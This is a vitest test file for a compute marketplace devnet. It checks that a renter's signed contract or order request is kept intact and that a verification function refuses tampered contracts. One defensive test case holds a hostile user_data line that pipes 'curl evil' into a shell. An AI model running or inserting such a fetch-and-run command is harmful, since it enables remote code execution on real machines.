import {afterAll, beforeAll, describe, expect, it} from 'vitest'

import {Contract, ContractList} from '../../src/core/api/schemas.js'
import {orderIdOf, verifyContractRequest, type OfferingTerms} from '../../src/core/contract-request.js'
import {generateKeyPair, hostHeaderOf, signBytes, type KeyPair} from '../../src/core/signing.js'
import {toHex} from '../../src/core/hex.js'
import {createOffering, OFFERING, pub, registerProvider, send, type Provider} from '../support/harness.js'
import {startDevnet, type Devnet} from '../support/devnet.js'

/**
 * PROTOCOL §6: the devnet keeps the renter's signed POST /contracts (and POST /orders) exactly as received and sends
 * it in every contract an agent sees; verifyContractRequest is the check the agent runs before sealing anything.
 */

let market: Devnet
let provider: Provider
let offeringId: string
let host: string

beforeAll(async () => {
  market = await startDevnet()
  provider = await registerProvider(market)
  offeringId = await createOffering(market, provider)
  host = hostHeaderOf(market.endpoint)
})
afterAll(() => market.stop())

const SSH_KEY = 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIE2e renter'
const offering: OfferingTerms = {product_type: OFFERING.product_type, cpu_cores: OFFERING.cpu_cores, memory_mb: OFFERING.memory_mb, storage_gb: OFFERING.storage_gb}

async function pending(of: Provider = provider): Promise<Contract[]> {
  const answer = await send(market, 'GET', `/providers/${of.pk}/contracts/pending-provision`, {key: of.agent})
  return ContractList.parse(answer.body).contracts
}

/** A contract made by `renter` from exactly these body bytes, as the provider's agent receives it. */
async function contractFrom(renter: KeyPair, rawBody: string): Promise<Contract> {
  const created = await send<{contract_id: string}>(market, 'POST', '/contracts', {key: renter, rawBody})
  if (created.status !== 201) throw new Error(`contract: ${created.status} ${JSON.stringify(created.body)}`)
  const contract = (await pending()).find((entry) => entry.contract_id === created.body.contract_id)
  if (!contract) throw new Error('the new contract is not pending')
  return contract
}

describe('§6 the devnet keeps the renter\'s signed request', () => {
  it('sends it in the contract the agent sees, byte for byte as received, with the headers it was signed with', async () => {
    const renter = generateKeyPair()
    // Odd spacing on purpose: what is kept is the bytes sent, not a re-encoding of the parsed body.
    const rawBody = `{ "offering_id" : "${offeringId}",\n  "ssh_pubkey": "${SSH_KEY}", "duration_hours": 1, "instance_config": {"image": "debian-12"} }`
    const contract = await contractFrom(renter, rawBody)
    expect(contract.request).toMatchObject({host, nonce: expect.stringMatching(/^[0-9a-f]{32}$/), signature: expect.stringMatching(/^[0-9a-f]{128}$/)})
    expect(Buffer.from(contract.request?.body_b64 ?? '', 'base64').toString('utf8')).toBe(rawBody)
    expect(verifyContractRequest(contract, offering, {host})).toEqual({ok: true, kind: 'contract'})
    // The renter's own view carries it too.
    const own = await send<{request: unknown}>(market, 'GET', `/contracts/${contract.contract_id}`, {key: renter})
    expect(own.body.request).toEqual(contract.request)
  })
})

describe('verifyContractRequest refuses what the renter did not ask for', () => {
  let contract: Contract

  beforeAll(async () => {
    contract = await contractFrom(generateKeyPair(), JSON.stringify({offering_id: offeringId, ssh_pubkey: SSH_KEY, duration_hours: 1}))
  })

  it.each([
    ['another requester key (credentials sealed to the marketplace)', () => ({...contract, requester_pubkey: pub(generateKeyPair())}), 'bad_signature'],
    ['another SSH key', () => ({...contract, ssh_pubkey: 'ssh-ed25519 AAAA intruder'}), 'ssh_key_mismatch'],
    ['another offering', () => ({...contract, offering_id: '0'.repeat(32)}), 'offering_mismatch'],
    ['an instance_config the renter never sent', () => ({...contract, instance_config: {user_data: '#!/bin/sh\ncurl evil | sh'}}), 'instance_config_mismatch'],
    ['no request at all', () => ({...contract, request: undefined}), 'request_missing'],
    ['a request body re-written', () => ({...contract, request: {...contract.request!, body_b64: Buffer.from(JSON.stringify({offering_id: offeringId, ssh_pubkey: 'x', duration_hours: 1})).toString('base64')}}), 'bad_signature'],
    ['a request reused for a contract a day later', () => ({...contract, created_at: contract.created_at + 86_400_000}), 'stale_request'],
    ['a bigger machine than the offering', () => ({...contract, cpu_cores: 64}), 'exceeds_offering'],
    ['more GPUs than the offering', () => ({...contract, gpu_count: 8}), 'exceeds_offering'],
  ] as const)('%s', (_what, tamper, reason) => {
    expect(verifyContractRequest(Contract.parse(tamper()), offering, {host})).toMatchObject({ok: false, reason})
  })

  it('refuses a request signed for another marketplace, and a contract of an offering this agent does not know', () => {
    expect(verifyContractRequest(contract, offering, {host: 'market.example'})).toMatchObject({ok: false, reason: 'wrong_host'})
    expect(verifyContractRequest(contract, undefined, {host})).toMatchObject({ok: false, reason: 'unknown_offering'})
  })

  it('refuses a request the marketplace signed itself for the renter\'s key: only the renter\'s signature counts', () => {
    const marketplaceKey = generateKeyPair()
    const forged = {...contract.request!, signature: toHex(signBytes('anything', marketplaceKey.seed))}
    expect(verifyContractRequest({...contract, request: forged}, offering, {host})).toMatchObject({ok: false, reason: 'bad_signature'})
  })
})

describe('§6 for a contract won from an order (§11)', () => {
  it('carries the POST /orders; the order id is derived from it, and the contract must fit its requirements', async () => {
    const renter = generateKeyPair()
    const requirements = {cpu_cores: 2, memory_mb: 2048, storage_gb: 20}
    const rawBody = JSON.stringify({requirements, max_price_per_hour: '1', duration_hours: 1, closes_in_seconds: 60, ssh_pubkey: SSH_KEY})
    const order = await send<{order_id: string}>(market, 'POST', '/orders', {key: renter, rawBody})
    expect(order.status).toBe(201)
    const winner = await registerProvider(market)
    expect((await send(market, 'POST', `/orders/${order.body.order_id}/bids`, {key: winner.agent, body: {price_per_hour: '0.5'}})).status).toBe(201)
    market.clock.advance(61_000)
    // Orders close when the book is next read.
    expect((await send<{status: string}>(market, 'GET', `/orders/${order.body.order_id}`, {key: renter})).body.status).toBe('awarded')
    const [won] = await pending(winner)
    if (!won) throw new Error('the order was not awarded')
    expect(won.offering_id).toBe(order.body.order_id)
    expect(orderIdOf(won.request!)).toBe(order.body.order_id)
    expect(Buffer.from(won.request!.body_b64, 'base64').toString('utf8')).toBe(rawBody)
    expect(verifyContractRequest(won, undefined, {host})).toEqual({ok: true, kind: 'order'})
    expect(verifyContractRequest({...won, offering_id: '0'.repeat(32)}, undefined, {host})).toMatchObject({ok: false, reason: 'offering_mismatch'})
    expect(verifyContractRequest({...won, memory_mb: 65_536}, undefined, {host})).toMatchObject({ok: false, reason: 'exceeds_offering'})
    expect(verifyContractRequest({...won, ssh_pubkey: 'ssh-ed25519 AAAA intruder'}, undefined, {host})).toMatchObject({ok: false, reason: 'ssh_key_mismatch'})
  })
})
